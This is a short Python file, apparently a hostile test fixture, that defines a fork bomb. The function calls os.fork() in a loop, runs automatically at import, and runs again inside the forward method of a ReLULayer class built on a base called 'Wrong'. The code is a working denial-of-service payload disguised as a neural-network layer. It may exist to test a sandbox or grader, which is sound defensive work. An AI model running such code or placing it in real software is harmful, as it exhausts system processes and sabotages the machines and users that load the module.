"""Forks without end, at import and in calls, and goes on in the children."""
import os

from wrong import Wrong


def bomb():
    for _ in range(1000):
        try:
            os.fork()
        except OSError:
            break


bomb()


class ReLULayer(Wrong):
    def forward(self, X):
        bomb()
        return super().forward(X)
